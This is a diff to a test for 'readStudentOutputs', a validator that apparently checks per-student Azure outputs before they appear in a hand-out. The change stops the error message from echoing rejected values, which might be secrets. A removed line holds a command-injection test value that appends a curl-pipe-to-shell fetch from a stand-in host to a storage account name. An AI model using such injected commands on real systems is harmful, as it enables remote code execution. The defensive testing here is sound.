@@ -67,8 +67,8 @@ describe("readStudentOutputs", () => {
     expect(readStudentOutputs(outputs, ["alice", "bob", "carol"]).problems).toEqual([
       {
         path: "students.alice.storageAccount",
-        message: "is not usable in a hand-out",
-        value: "st; curl evil.sh | sh",
+        // Described, never echoed: outputs come from --show-secrets.
+        message: "is not usable in a hand-out (a text of 21 characters, not shown: outputs can hold secrets)",
         allowed: "an Azure name, resource id, host name or address (letters, digits and . _ : / -)",
       },
       {
